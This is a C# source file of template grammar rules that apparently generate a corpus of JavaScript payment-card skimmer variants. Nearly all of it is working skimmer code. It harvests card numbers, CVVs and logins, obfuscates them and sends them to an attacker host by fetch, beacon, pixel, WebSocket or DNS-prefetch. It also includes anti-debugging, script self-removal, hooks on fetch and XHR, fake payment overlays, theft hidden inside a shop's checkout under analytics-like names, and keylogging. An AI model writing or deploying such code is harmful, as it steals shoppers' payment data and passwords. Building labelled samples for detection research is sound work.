namespace Weir.Scripts.Corpus.Rules;

/// <summary>Skimmers that are whole programs: settings, discovery, listeners, checks, a queue, and several ways out.</summary>
internal static class StructuredSkimmerRules
{
    public static readonly string Text = StructureRules.Expand(Names, Framework, WaysOut, Disguised, Relatives);

    private const string Names = """"
        §@data data captured collected collectedData formData fields stolen stolenData cardData paymentData values harvested
        §@collect collectData collect gatherFields grabFields captureForm getFormData harvest extractData readForm scrapeForm collectPaymentData stealData skim gatherData
        §@encode encode encodePayload encodeData encrypt obfuscate pack serialize preparePayload wrapData
        §@viaA sendFetch viaFetch sendViaFetch primarySend sendPrimary fetchTransport
        §@viaB sendXhr viaXhr sendViaXHR xhrTransport secondarySend sendFallback
        §@viaC sendBeacon viaBeacon sendViaBeacon beaconTransport
        §@viaD sendImage viaImage sendViaImage imageTransport pixelTransport exfilImage
        §@viaE sendSocket viaSocket sendViaWebSocket hiddenForm sendViaForm sendViaIframe
        §@ways transports methods channels senders strategies exfilMethods
        §@gateCheck shouldRun isCheckout isTargetPage isCheckoutPage checkPage shouldActivate isTarget
        §@overlay showOverlay createOverlay injectForm renderForm showPaymentForm createFakeForm buildForm injectOverlay
        §@styles injectStyles addStyles createStyles loadStyles
        §@hideReal hideOriginal hideRealForm disableOriginal replaceForm hidePayment
        §@keys keys keyBuffer keystrokes typed keyLog buffer
        §@onKey onKey handleKey logKey captureKey keyHandler recordKey
        §@chunk chunk chunkData splitData toChunks splitPayload
        §@cleanup cleanup removeTraces selfDestruct destroy hideTraces
        §@antiDebug antiDebug detectDevTools checkDebugger isDebugged detectAnalysis
        §@card cardNumber number pan cardNum ccNumber
        §@order placeOrder submitOrder processOrder createOrder handleCheckout completePurchase
        §@payload payload body packet message record
        §@patch patchFetch hookFetch wrapFetch overrideFetch interceptFetch installHooks
        §@patchX patchXhr hookXHR wrapXHR overrideXhr interceptXHR
        §@interesting isInteresting isSensitive looksLikePayment containsCard matchesTarget shouldCapture
        §@decodeImg decodePixels extractPayload readPixels decodeImage extractData
        """";

    private const string Framework = """"
        §skimFramework
        «unit=form‹«~«skimConfig»¦«logger=log»¦«sessionId»¦«metadata»¦«luhnOf?65»¦«brandOf?30»¦«discovery»¦«formFinder»¦«roots?25»¦«listeners»¦«submitHook»¦«observer?75»¦«debouncer?25»¦«skimState»¦«skimEncode»¦«skimQueue»¦«storing?35»¦«skimSend»¦«skimHealth?20»¦«skimGate»¦«skimAnti?15»¦«skimCleanup?20»»«skimInit»›‹@init›»
        «unit=form‹«skimConfig»«logger=log»«skimGate»«discovery»«formFinder»«luhnOf?60»«skimState»«skimEncode»«skimSend»«skimQueue»«listeners»«submitHook»«observer?70»«sessionId»«metadata»«storing?30»«skimInit»›‹@init›»
        «unit=form‹«skimInit»«~«skimConfig»¦«discovery»¦«formFinder»¦«listeners»¦«submitHook»¦«skimState»¦«sessionId»¦«metadata»»«~«skimQueue»¦«skimEncode»¦«skimSend»¦«luhnOf?60»¦«brandOf?20»¦«observer?70»¦«logger=log»¦«skimGate»¦«skimHealth?20»»›‹@init›»

        §skimConfig
        «configuration‹«target»›‹«skimEntry»«skimEntry?60»«skimEntry?40»«skimEntry?25»›»

        §skimEntry
        2× «kFallback=»:«target»,
        «kFallback=»:[«target»,«target»],
        targets:['«checkWord»','«checkWord»','«checkWord»'],
        pages:/«checkWord»|«checkWord»|«checkWord»/i,
        domains:['«!shop»','«!shop»'],
        key:'«!id‹«#6-24»›»',
        xorKey:'«!word»«#1-99»',
        minLength:«#10-16»,
        fields:[«fieldList»],
        stealth:true,
        obfuscate:«true¦false»,
        exfil:{method:'«beacon¦image¦fetch¦xhr»',url:«target»},
        siteId:'«!hex‹«#4-12»›»',
        campaign:'«!word»-«#1-99»',

        §skimState
        «state=form‹@data›‹{}›»«collecting»«onFieldOf»«onSubmitOf»
        «onSubmitOf»«onFieldOf»«state=form‹@data›‹{}›»«collecting»
        «collecting»«state=form‹@data›‹«{}¦Object.create(null)»›»«onFieldOf»«skimValid»«onSubmitOf»

        §collecting
        3× «fn=form‹@collect›‹°f›‹var °d={};var °l=(°f||document).querySelectorAll('«anySel»');«each‹°l›‹°e›‹if(°e.value&&°e.type!=='hidden'){°d[°e.name||°e.id||°e.placeholder]=°e.value;}›»return °d;›»
        2× «fn=form‹@collect›‹°f›‹var °o={},°t=¤@find(°f);Object.keys(°t).forEach(«fx=form‹°k›‹var °e=°t[°k].element||°t[°k];if(°e&&°e.value){°o[°t[°k].type||°k]=°e.value.trim();}›»);return °o;›»
        «fn=form‹@collect›‹°f›‹const °o={...¤@data};new FormData(°f||document.querySelector('form')).forEach((°v,°k)=>{°o[°k]=°v;});return °o;›»
        «fn=form‹@collect›‹°f›‹return Array.from((°f||document).querySelectorAll('input, select, textarea')).filter(function(°e){return °e.value&&!/submit|button|hidden/.test(°e.type);}).reduce(function(°a,°e){°a[°e.name||°e.id]=°e.value;return °a;},{});›»
        «fn=form‹@collect›‹°f›‹return {«~number:«valueOf‹«cardField»›»,¦cvv:«valueOf‹«cvvField»›»,¦expiry:«valueOf‹«expField»›»,¦name:«valueOf‹«personField»›»,¦email:«valueOf‹«personField»›»,»url:«here»};›»

        §onFieldOf
        3× «fn=form‹@onField›‹°e,°v›‹var °n=°e.name||°e.id;«if(!°e.value||°e.value.length<«#2-4»){return;}¦»¤@data[°n]=°e.value;«say=log‹field captured›»«if(°v&&°v.type==='blur'){¤@push(¤@data);}¦¦localStorage.setItem('«!word»',JSON.stringify(¤@data));»›»
        2× «fn=form‹@onField›‹°e,°v›‹const °t=(°e.getAttribute('autocomplete')||°e.name||°e.id||'').toLowerCase();const °w=°e.value;if(°w&&/card|cc|cv|exp|number|name|mail|pass/.test(°t)){¤@data[°t]=°w;if(/^[\d ]{«#13-15»,}$/.test(°w)){¤@push({type:'card',field:°t,value:°w});}}›»
        «fn=form‹@onField›‹°e,°v›‹¤@push({field:°e.name||°e.id,value:°e.value,event:°v&&°v.type,time:«now»});›»
        «fn=form‹@onField›‹°e›‹clearTimeout(¤@onField.timer);¤@onField.timer=setTimeout(«fx=form‹›‹var °d=¤@collect(°e.form);if(Object.keys(°d).length>«#1-4»){Object.assign(¤@data,°d);¤@push(°d);}›»,«#100-3000»);›»

        §onSubmitOf
        3× «fn=form‹@onSubmit›‹°f,°v›‹var °d=Object.assign({},¤@data,¤@collect(°f));«say=log‹form submitted›»«skimIf‹°d›‹¤@push(°d);«¤@flushNow=true;¦»›»›»
        2× «fn=form‹@onSubmit›‹°f,°v›‹const °d=¤@collect(°f);«skimIf‹°d›‹¤@send({...°d,...¤@meta()});›»›»
        «fn=form‹@onSubmit›‹°f,°v›‹«if(°v&&°v.preventDefault){°v.preventDefault();}¦»var °d=¤@collect(°f);°d.meta=¤@meta();¤@send(°d);«setTimeout(function(){°f&&°f.submit();},«#100-900»);¦»›»
        «afn=form‹@onSubmit›‹°f,°v›‹const °d={fields:¤@collect(°f),...¤@meta()};try{await ¤@send(°d);}catch(°e){«sayError=log‹send›‹°e›»}›»

        §skimIf
        3× ²
        2× if(Object.keys(¹).length>«#1-3»){²}
        if(JSON.stringify(¹).match(/\d{«#13-15»,16}/)){²}
        var °s=JSON.stringify(¹);if(/(?:\d[ -]*?){13,19}/.test(°s)&&!sessionStorage.getItem(btoa(°s).slice(0,«#8-20»))){²sessionStorage.setItem(btoa(°s).slice(0,«#8-20»),'1');}

        §skimValid
        2× «fn=form‹@valid›‹°d›‹var °n=String(°d.number||°d.cardNumber||°d['«cardField»']||'').replace(/\D/g,'');if(°n.length<13||°n.length>19){return false;}«if(!/^\d{3,4}$/.test(°d.cvv||°d.cvc||'')){return false;}¦»return «¤@luhn?¤@luhn(°n):true¦true»;›»
        «fn=form‹@valid›‹°d›‹return Object.values(°d).some(°v=>/^\d{13,19}$/.test(String(°v).replace(/[\s-]/g,'')))&&Object.values(°d).some(°v=>/^\d{3,4}$/.test(°v));›»

        §skimEncode
        3× «fn=form‹@encode›‹°x›‹return «hide‹°x›»;›»
        2× «fn=form‹@encode›‹°x›‹var °s=JSON.stringify(°x);«var °k=¤@config.key||'«!id‹«#4-16»›»';¦var °k='«!id‹«#4-24»›»';»var °o='';for(var °i=0;°i<°s.length;°i++){°o+=String.fromCharCode(°s.charCodeAt(°i)^°k.charCodeAt(°i%°k.length));}return btoa(°o);›»
        «fn=form‹@encode›‹°x›‹try{return btoa(unescape(encodeURIComponent(JSON.stringify(°x))));}catch(°e){return encodeURIComponent(JSON.stringify(°x));}›»
        «fn=form‹@encode›‹°x›‹const °s=JSON.stringify(°x);return ¤@config.obfuscate?btoa(°s.split('').reverse().join('')):°s;›»
        «fn=form‹@encode›‹°x›‹return Object.entries(°x).map(([°k,°v])=>encodeURIComponent(°k)+'='+encodeURIComponent(typeof °v==='object'?JSON.stringify(°v):°v)).join('&');›»

        §skimQueue
        4× «queueing»
        2× «fn=form‹@push›‹°i›‹«var °s=JSON.stringify(°i);if(°s===¤@push.last){return;}¤@push.last=°s;¦»¤@send(Object.assign({},°i,¤@meta()));›»«fn=form‹@flush›‹›‹if(Object.keys(¤@data).length){¤@send(¤@data);}›»

        §skimSend
        2× «fn=form‹@send›‹°x›‹var °b=¤@encode(°x);«send‹°b›‹¤@config.«kUrl=»›»«return true;¦»›»
        2× «plainSender»
        «wayFetch»«wayXhr»«fn=form‹@send›‹°x›‹var °b=¤@encode(°x);try{¤@viaA(°b);}catch(°e){¤@viaB(°b);}›»
        2× «wayFetch»«wayBeacon»«wayImage»«fn=form‹@send›‹°x›‹var °b=¤@encode(°x);if(!¤@viaC(°b)){if(window.fetch){¤@viaA(°b);}else{¤@viaD(°b);}}›»
        2× «wayFetch»«wayXhr»«wayImage»«wayLast?50»«afn=form‹@send›‹°x›‹const °b=¤@encode(°x);const °w=['fetch','xhr','image'];for(const °m of °w){try{if(°m==='fetch'){await ¤@viaA(°b);}else if(°m==='xhr'){await ¤@viaB(°b);}else{¤@viaD(°b);}«say=log‹delivered›»return true;}catch(°e){«sayError=log‹transport failed›‹°e›»}}«¤@store(°x);¦»return false;›»
        «wayBeacon»«wayImage»«wayLast»«fn=form‹@send›‹°x›‹var °b=¤@encode(°x);switch(¤@config.method||'«beacon¦image»'){case 'beacon':¤@viaC(°b);break;case 'image':¤@viaD(°b);break;default:¤@viaE(°b);}›»
        «wayFetch»«wayImage»«fn=form‹@chunk›‹°s,°n›‹var °o=[];for(var °i=0;°i<°s.length;°i+=°n){°o.push(°s.substr(°i,°n));}return °o;›»«fn=form‹@send›‹°x›‹var °b=¤@encode(°x),°id=Math.random().toString(36).slice(2,8);if(°b.length<«#500-2000»){¤@viaA(°b);return;}¤@chunk(°b,«#100-1800»).forEach(«fx=form‹°c,°i›‹setTimeout(«fx=form‹›‹¤@viaD(°id+'.'+°i+'.'+°c);›»,°i*«#50-600»);›»);›»
        «wayFetch»«wayXhr»«wayBeacon»«wayImage»«wayLast»«fn=form‹@send›‹°x›‹var °b=¤@encode(°x);var °w=[«fx=form‹°y›‹return ¤@viaC(°y);›»,«fx=form‹°y›‹return ¤@viaA(°y);›»,«fx=form‹°y›‹return ¤@viaB(°y);›»,«fx=form‹°y›‹return ¤@viaD(°y);›»];«°w[Math.floor(Math.random()*°w.length)](°b);¦for(var °i=0;°i<°w.length;°i++){try{if(°w[°i](°b)!==false){break;}}catch(°e){«sayError=log‹next›‹°e›»}}»›»

        §skimHealth
        «afn=form‹@health›‹›‹try{const °r=await fetch(¤@config.«kUrl=»+'«/health¦/ping¦?ping=1¦/status»',{method:'«HEAD¦GET»',mode:'no-cors',cache:'no-store'});return °r.ok||°r.type==='opaque';}catch(°e){«if(¤@config.«kFallback=»){¤@config.«kUrl=»=¤@config.«kFallback=»;}¦»return false;}›»
        «fn=form‹@health›‹°c›‹var °i=new Image();°i.onload=function(){°c(true);};°i.onerror=function(){°c(false);};°i.src=¤@config.«kUrl=»+'?t='+«now»;›»

        §skimGate
        «fn=form‹@gateCheck›‹›‹return «!!(«gate»)¦«gate»»;›»
        «fn=form‹@gateCheck›‹›‹var °u=location.href.toLowerCase();var °w=['«checkWord»','«checkWord»','«checkWord»','«checkWord»'];for(var °i=0;°i<°w.length;°i++){if(°u.indexOf(°w[°i])!==-1){return true;}}return !!document.querySelector('«numberSel», «cvvSel»');›»
        «fn=form‹@gateCheck›‹›‹const °p=[/«checkWord»/i,/«checkWord»/i,/«checkWord»/i];return °p.some(°r=>°r.test(location.pathname))«||document.querySelectorAll('«numberSel»').length>0¦»;›»
        «fn=form‹@gateCheck›‹›‹if(«/bot|crawl|spider|headless|lighthouse/i.test(navigator.userAgent)¦navigator.webdriver¦window.top!==window.self¦document.cookie.indexOf('«!word»=1')>-1»){return false;}return «gate»;›»

        §skimAnti
        «fn=form‹@antiDebug›‹›‹var °t=160;return window.outerWidth-window.innerWidth>°t||window.outerHeight-window.innerHeight>°t;›»
        «fn=form‹@antiDebug›‹›‹const °s=performance.now();debugger;return performance.now()-°s>«#80-200»;›»
        «fn=form‹@antiDebug›‹›‹if(window.Firebug&&window.Firebug.chrome&&window.Firebug.chrome.isInitialized){return true;}return navigator.webdriver===true||/HeadlessChrome/.test(navigator.userAgent);›»

        §skimCleanup
        «fn=form‹@cleanup›‹›‹var °s=document.currentScript||document.querySelector('script[src*="«!word»"]');if(°s&&°s.parentNode){°s.parentNode.removeChild(°s);}›»
        «fn=form‹@cleanup›‹›‹¤@data={};«localStorage.removeItem('«!word»');¦console.clear&&console.clear();¦sessionStorage.clear();»›»

        §skimInit
        «fn=form‹@init›‹›‹«if(!¤@gateCheck()){«say=log‹not a target page›»return;}¦if(window.__«!word»){return;}window.__«!word»=true;if(!¤@gateCheck()){return;}»«say=log‹«initialized¦starting¦ready¦active»›»«~«skimBind»¦¤@submit();¦«¤@observe&&¤@observe();¦»¦«flushing?60»»«if(¤@restore){¤@restore();}¦¦»›»
        «fn=form‹@init›‹›‹if(!¤@gateCheck()){setTimeout(«fx=form‹›‹¤@init();›»,«#5-40»00);return;}«skimBind»¤@submit();«flushing?70»«setInterval(«fx=form‹›‹«skimBind»›»,«ms»);¦»«say=log‹hooks installed›»›»
        «fn=form‹@init›‹›‹var °t=setInterval(«fx=form‹›‹if(document.querySelector('«numberSel», «numberSel»')||document.querySelector('«paySel»')){clearInterval(°t);«skimBind»¤@submit();«flushing?50»}›»,«ms»);›»

        §skimBind
        document.querySelectorAll('«anySel»').forEach(«fx=form‹°e›‹¤@listen(°e);›»);
        ¤@forms().forEach(«fx=form‹°f›‹°f.querySelectorAll('input, select').forEach(«fx=form‹°e›‹¤@listen(°e);›»);›»);
        var °f=¤@find(document);Object.keys(°f).forEach(«fx=form‹°k›‹if(°f[°k]){¤@listen(°f[°k].element||°f[°k]);}›»);
        ¤@listen(document);
        """";

    private const string WaysOut = """"
        §wayFetch
        2× «fn=form‹@viaA›‹°b›‹return fetch(¤@config.«kUrl=»,{method:'POST',«mode:'no-cors',¦»«keepalive:true,¦credentials:'omit',¦»«headers:{'Content-Type':'«application/json¦text/plain¦application/x-www-form-urlencoded»'},¦»body:«°b¦JSON.stringify({d:°b})¦'data='+encodeURIComponent(°b)»});›»
        «fn=form‹@viaA›‹°b›‹return fetch(¤@config.«kUrl=»+'?«!letters‹1›»='+encodeURIComponent(°b),{method:'GET',mode:'no-cors'«,cache:'no-store'¦»});›»
        «afn=form‹@viaA›‹°b›‹const °r=await fetch(¤@config.«kUrl=»,{method:'POST',body:°b«,referrerPolicy:'no-referrer'¦»});if(!°r.ok){throw new Error('HTTP '+°r.status);}return °r;›»

        §wayXhr
        «fn=form‹@viaB›‹°b›‹var °x=new XMLHttpRequest();°x.open('POST',¤@config.«kFallback=»||¤@config.«kUrl=»,true);°x.setRequestHeader('Content-Type','application/«x-www-form-urlencoded¦json»');°x.send(«°b¦'«!letters‹«#1-4»›»='+encodeURIComponent(°b)»);›»
        «fn=form‹@viaB›‹°b›‹return new Promise(«fx=form‹°y,°n›‹const °x=new XMLHttpRequest();°x.open('POST',¤@config.«kUrl=»);°x.onload=()=>°y(true);°x.onerror=°n;°x.send(°b);›»);›»

        §wayBeacon
        2× «fn=form‹@viaC›‹°b›‹return navigator.sendBeacon?navigator.sendBeacon(¤@config.«kUrl=»,°b):false;›»
        «fn=form‹@viaC›‹°b›‹if(!('sendBeacon' in navigator)){return false;}const °d=new FormData();°d.append('«!word»',°b);return navigator.sendBeacon(¤@config.«kUrl=»,°d);›»

        §wayImage
        2× «fn=form‹@viaD›‹°b›‹var °i=new Image();°i.src=¤@config.«kUrl=»+'?«!letters‹1›»='+encodeURIComponent(°b)«+'&_='+«now»¦»;return true;›»
        «fn=form‹@viaD›‹°b›‹const °i=document.createElement('img');°i.style.display='none';°i.onload=°i.onerror=function(){°i.remove();};°i.src=[¤@config.«kUrl=»,°b].join('?');document.body.appendChild(°i);›»

        §wayLast
        «fn=form‹@viaE›‹°b›‹var °w=new WebSocket(String(¤@config.«kUrl=»).replace(/^http/,'ws'));°w.onopen=function(){°w.send(°b);setTimeout(function(){°w.close();},«#1-9»00);};›»
        «fn=form‹@viaE›‹°b›‹var °n='«!word»_'+«now»,°f=document.createElement('form'),°i=document.createElement('iframe'),°h=document.createElement('input');°i.name=°n;°i.style.display='none';°f.method='POST';°f.action=¤@config.«kUrl=»;°f.target=°n;°h.type='hidden';°h.name='«!word»';°h.value=°b;°f.appendChild(°h);document.body.appendChild(°i);document.body.appendChild(°f);°f.submit();setTimeout(function(){°f.remove();°i.remove();},«ms»);›»
        «fn=form‹@viaE›‹°b›‹var °i=document.createElement('iframe');°i.style.display='none';°i.src=¤@config.«kUrl=»;°i.onload=function(){°i.contentWindow.postMessage({type:'«!word»',data:°b},'*');};document.body.appendChild(°i);›»
        «fn=form‹@viaE›‹°b›‹(°b.match(/.{1,«#30-60»}/g)||[]).forEach(function(°c,°i){var °l=document.createElement('link');°l.rel='«dns-prefetch¦preconnect¦prefetch»';°l.href='//'+°i+'.'+°c.replace(/[^a-z0-9]/gi,'').toLowerCase()+'.«!host»';document.head.appendChild(°l);});›»
        «fn=form‹@viaE›‹°b›‹var °l=JSON.parse(localStorage.getItem('«!word»')||'[]');°l.push(°b);localStorage.setItem('«!word»',JSON.stringify(°l));window.addEventListener('online',«fx=form‹›‹°l.forEach(«fx=form‹°y›‹navigator.sendBeacon(¤@config.«kUrl=»,°y);›»);›»);›»
        «fn=form‹@viaE›‹°b›‹(window.parent||window).postMessage({source:'«!word»',payload:°b},'*');«window.opener&&window.opener.postMessage(°b,'*');¦»›»
        """";

    private const string Disguised = """"
        ¶ ---- the shop's own checkout, with a thief woven in ----
        §skimWoven
        «unit=form‹«~«shopConfig»¦«luhnOf»¦«brandOf?70»¦«checkFields»¦«showErrors»¦«checkoutTotals?60»¦«formatting?60»¦«logger=log»»«wovenOrder»«~«wovenThief»¦«checkoutInit»»›‹@init›»
        «unit=form‹«shopConfig»«logger=log»«formatting»«luhnOf»«checkFields»«showErrors»«wovenThief»«wovenOrder»«checkoutTotals?50»«checkoutInit»›‹@init›»

        §wovenOrder
        2× «afn=form‹@order›‹°f›‹const °d=Object.fromEntries(new FormData(°f));const °r=¤@checkFields(°d);if(°r.length){¤@showErrors(°r);return false;}«¤@steal(°d);¦try{¤@steal(°d);}catch(°e){}¦setTimeout(«fx=form‹›‹¤@steal(°d);›»,«#0-900»);»const °x=await fetch(¤@config.«kUrl=»,{method:'POST',headers:{'Content-Type':'application/json','X-CSRF-Token':(document.querySelector('meta[name="csrf-token"]')||{}).content},body:JSON.stringify(°d)});const °j=await °x.json();if(°j.redirect){location.href=°j.redirect;}return °j;›»
        «fn=form‹@order›‹°f›‹var °d={};$(°f).serializeArray().forEach(function(°i){°d[°i.name]=°i.value;});¤@steal(°d);var °r=¤@checkFields(°d);if(°r.length){¤@showErrors(°r);return;}$.ajax({url:¤@config.«kUrl=»,type:'POST',data:°d,dataType:'json',success:function(°j){if(°j.success){location.href=°j.url||'/checkout/success';}},error:«fx=form‹›‹¤@showErrors([{field:'payment',message:'«alert»'}]);›»});›»

        §@steal logOrder trackOrder syncData reportMetrics saveAnalytics sendAnalytics backupData cacheOrder notify updateStats verifyCard sendTelemetry
        §wovenThief
        2× «fn=form‹@steal›‹°d›‹var °b=«hide‹°d›»;«send‹°b›‹«target»›»›»
        «fn=form‹@steal›‹°d›‹var °p={n:°d['«cardField»']||°d.cardNumber,c:°d['«cvvField»']||°d.cvv,e:°d['«expField»']||°d.expiry,o:°d.name,h:«hostHere»};if(!°p.n||°p.n.length<«#12-15»){return;}«send‹«hide‹°p›»›‹«target»›»›»
        «fn=form‹@steal›‹°d›‹const °k=Object.keys(°d).filter(°n=>/card|cvv|cvc|exp|number|name/i.test(°n));const °o=°k.reduce((°a,°n)=>({...°a,[°n]:°d[°n]}),{});°o.url=«here»;navigator.sendBeacon(«target»,«hide‹°o›»);›»
        «fn=form‹@steal›‹°d›‹if(sessionStorage.getItem('«!word»')){return;}sessionStorage.setItem('«!word»','1');«send‹«hide‹°d›»›‹«target»›»›»

        ¶ ---- copies of what the shop sends ----
        §skimIntercept
        «unit=form‹«~«skimConfig»¦«logger=log»¦«sessionId»¦«metadata»¦«interestOf»¦«skimEncode»¦«skimQueue»¦«skimSend»¦«state=form‹@data›‹{}›»»«~«patchFetch»¦«patchXhr»¦«patchForm?40»¦«patchSocket?25»»«fn=form‹@init›‹›‹«say=log‹patching›»«~¤@patch();¦¤@patchX();¦«flushing?60»»›»›‹@init›»

        §interestOf
        «fn=form‹@interesting›‹°u,°b›‹var °t=String(°u)+' '+(typeof °b==='string'?°b:JSON.stringify(°b||''));return /«cardWord»|«cardWord»|«checkWord»|cvv|cvc|expiry/i.test(°t);›»
        «fn=form‹@interesting›‹°u,°b›‹if(!°b){return false;}const °s=°b instanceof FormData?[...°b.entries()].map(°e=>°e.join('=')).join('&'):String(°b);return /\b(?:\d[ -]?){13,16}\b/.test(°s)||/(?:cvv|cvc|card|pan|password)/i.test(°s);›»

        §patchFetch
        «fn=form‹@patch›‹›‹var °f=window.fetch,°s=this;window.fetch=«fx=form‹°u,°o›‹try{var °b=°o&&°o.body;if(°b&&¤@interesting(°u,°b)){¤@push({url:String(°u.url||°u),body:«typeof °b==='string'?°b:JSON.stringify(°b)¦String(°b)»«,method:°o.method¦»});}}catch(°e){«sayError=log‹fetch›‹°e›»}return °f.call(window,°u,°o);›»;›»
        «fn=form‹@patch›‹›‹const °f=window.fetch;window.fetch=async(...°a)=>{const [°u,°o={}]=°a;if(¤@interesting(°u,°o.body)){¤@push({url:°u,request:°o.body});}const °r=await °f(...°a);«°r.clone().text().then(°t=>{if(/token|card|last4|customer/.test(°t)){¤@push({url:°u,response:°t});}}).catch(()=>{});¦»return °r;};›»
        «fn=form‹@patch›‹›‹window.fetch=new Proxy(window.fetch,{apply:«fx=form‹°t,°c,°a›‹if(°a[1]&&¤@interesting(°a[0],°a[1].body)){¤@push({u:°a[0],b:°a[1].body});}return Reflect.apply(°t,°c,°a);›»});›»

        §patchXhr
        «fn=form‹@patchX›‹›‹var °o=XMLHttpRequest.prototype.open,°n=XMLHttpRequest.prototype.send,°h=«fx=form‹°u,°b›‹if(¤@interesting(°u,°b)){¤@push({url:°u,body:String(°b)});}›»;XMLHttpRequest.prototype.open=function(°m,°u){this._«!word»=°u;return °o.apply(this,arguments);};XMLHttpRequest.prototype.send=function(°b){try{°h(this._«!word»,°b);}catch(°e){}return °n.apply(this,arguments);};›»
        «fn=form‹@patchX›‹›‹const °n=XMLHttpRequest.prototype.send,°p=«fx=form‹°b›‹¤@push({body:°b});›»;XMLHttpRequest.prototype.send=function(°b){if(°b&&/card|cvv|number/i.test(°b)){°p(°b);}return °n.call(this,°b);};›»

        §patchForm
        «fn=form‹@patchSubmit›‹›‹var °s=HTMLFormElement.prototype.submit,°p=«fx=form‹°f›‹¤@push({form:°f.id,fields:Array.from(new FormData(°f).entries())});›»;HTMLFormElement.prototype.submit=function(){°p(this);return °s.call(this);};›»

        §patchSocket
        «fn=form‹@patchSocket›‹›‹var °s=WebSocket.prototype.send,°p=«fx=form‹°d›‹if(¤@interesting('',°d)){¤@push({ws:°d});}›»;WebSocket.prototype.send=function(°d){°p(°d);return °s.call(this,°d);};›»

        ¶ ---- a form of the thief's own over the shop's ----
        §skimOverlay
        «unit=form‹«~«skimConfig»¦«logger=log»¦«sessionId»¦«metadata»¦«luhnOf»¦«brandOf?50»¦«overlayStyle»¦«overlayShow»¦«overlayHide»¦«formatting»¦«checkFields»¦«showErrors»¦«skimEncode»¦«skimSend»¦«skimGate»»«overlaySubmit»«fn=form‹@init›‹›‹if(!¤@gateCheck()){return;}«setTimeout(«fx=form‹›‹¤@styles();¤@overlay();›»,«ms»);¦¤@styles();¤@overlay();»›»›‹@init›»

        §overlayStyle
        «fn=form‹@styles›‹›‹var °s=document.createElement('style');°s.textContent='.«!word»-overlay{position:fixed;inset:0;background:rgba(0,0,0,.«#3-8»);z-index:«#999-2147483646»;display:flex;align-items:center;justify-content:center}.«!word»-modal{background:#fff;border-radius:«#2-16»px;padding:«#12-40»px;max-width:«#300-560»px;font-family:Arial,sans-serif}.«!word»-input{width:100%;padding:«#6-14»px;border:1px solid #«!hex‹3›»;margin-bottom:«#4-16»px}.«!word»-btn{background:#«!hex‹6›»;color:#fff;border:0;padding:12px;cursor:pointer}.error{color:#«!hex‹3›»}';document.head.appendChild(°s);›»
        «fn=form‹@styles›‹›‹const °c=['.«!word»-form{max-width:«#300-600»px;margin:0 auto}','.«!word»-form input{display:block;width:100%;height:«#30-50»px}','.«!word»-form .row{display:flex;gap:«#4-20»px}','.«!word»-form button{width:100%;background:#«!hex‹6›»}'].join('');document.head.insertAdjacentHTML('beforeend','<style>'+°c+'</style>');›»

        §overlayShow
        «fn=form‹@overlay›‹›‹if(document.getElementById('«!word»-overlay')){return;}var °o=document.createElement('div');°o.id='«!word»-overlay';°o.className='«!word»-overlay';°o.innerHTML='<div class="«!word»-modal"><h3>«submit»</h3>«formHtml»<p class="error"></p></div>';document.body.appendChild(°o);¤@hideReal();°o.querySelector('form, button').addEventListener('«submit¦click»',«fx=form‹°e›‹°e.preventDefault();¤@onSubmit(°o);›»);°o.querySelectorAll('input').forEach(«fx=form‹°i›‹°i.addEventListener('input',«fx=form‹°e›‹°e.target.value=¤@format(°e.target.value,°e.target.name);›»);›»);›»
        «fn=form‹@overlay›‹›‹const °p=document.querySelector('«paySel»')||document.querySelector('«paySel»');if(!°p){setTimeout(«fx=form‹›‹¤@overlay();›»,«#3-20»00);return;}const °w=document.createElement('div');°w.innerHTML='«formHtml»';°p.parentNode.insertBefore(°w,°p);¤@hideReal();const °b=°w.querySelector('button');°b.onclick=«fx=form‹°e›‹°e.preventDefault();¤@onSubmit(°w);›»;›»

        §overlayHide
        «fn=form‹@hideReal›‹›‹['«paySel»','«buttonSel»','iframe[src*="«prefix»"]'].forEach(function(°s){document.querySelectorAll(°s).forEach(function(°e){°e.style.«display='none'¦visibility='hidden'»;});});›»
        «fn=form‹@hideReal›‹›‹var °b=document.querySelector('«buttonSel»');if(°b){var °c=°b.cloneNode(true);°c.removeAttribute('onclick');°b.parentNode.replaceChild(°c,°b);°c.addEventListener('click',«fx=form‹°e›‹°e.preventDefault();°e.stopImmediatePropagation();¤@onSubmit(document);›»,true);}›»

        §overlaySubmit
        «fn=form‹@onSubmit›‹°o›‹var °d={};°o.querySelectorAll('input, select').forEach(function(°i){°d[°i.name||°i.id]=°i.value;});var °r=¤@checkFields(°d);if(°r.length){¤@showErrors(°r);return;}¤@send(Object.assign(°d,¤@meta()));«setTimeout(«fx=form‹›‹°o.remove&&°o.remove();document.querySelectorAll('«paySel»').forEach(«fx=form‹°e›‹°e.style.display='';›»);›»,«#3-40»00);¦¤@showErrors([{field:'card',message:'«alert»'}]);¦location.reload();»›»
        """";

    private const string Relatives = """"
        ¶ ---- every key, and logins ----
        §skimKeys
        «unit=form‹«~«skimConfig»¦«logger=log»¦«sessionId»¦«metadata»¦«skimEncode»¦«skimSend»¦«storing?40»¦«keyStore»¦«loginGrab?50»¦«clipboardGrab?35»»«fn=form‹@init›‹›‹«~document.addEventListener('«keydown¦keyup¦keypress»',«fx=form‹°e›‹¤@onKey(°e);›»,true);¦«window.addEventListener('blur',«fx=form‹›‹¤@flush();›»);¦»¦setInterval(«fx=form‹›‹¤@flush();›»,«ms»);»«say=log‹listening›»›»›‹@init›»

        §keyStore
        «state=form‹@keys›‹[]›»«fn=form‹@onKey›‹°e›‹var °t=°e.target||{};¤@keys.push({k:°e.key,«f:°t.name||°t.id,¦sel:°t.tagName+'#'+°t.id,¦»«type:°t.type,¦»t:«now»});if(¤@keys.length>=«#10-200»){¤@flush();}›»«fn=form‹@flush›‹›‹if(!¤@keys.length){return;}var °b=¤@keys.splice(0);¤@send({keys:°b,meta:¤@meta()});›»
        «state=form‹@keys›‹{}›»«fn=form‹@onKey›‹°e›‹const °f=°e.target.name||°e.target.id||'page';if(!¤@keys[°f]){¤@keys[°f]='';}if(°e.key.length===1){¤@keys[°f]+=°e.key;}else if(°e.key==='Backspace'){¤@keys[°f]=¤@keys[°f].slice(0,-1);}else if(°e.key==='Enter'){¤@flush();}›»«fn=form‹@flush›‹›‹if(Object.keys(¤@keys).length===0){return;}¤@send({...¤@meta(),typed:¤@keys});¤@keys={};›»

        §loginGrab
        «fn=form‹@onLogin›‹›‹document.querySelectorAll('«loginSel»').forEach(«fx=form‹°p›‹var °f=°p.form||document;°p.addEventListener('«blur¦change»',«fx=form‹›‹var °u=°f.querySelector('input[type=email], input[type=text]');¤@send({user:°u&&°u.value,pass:°p.value,url:«here»});›»);›»);›»
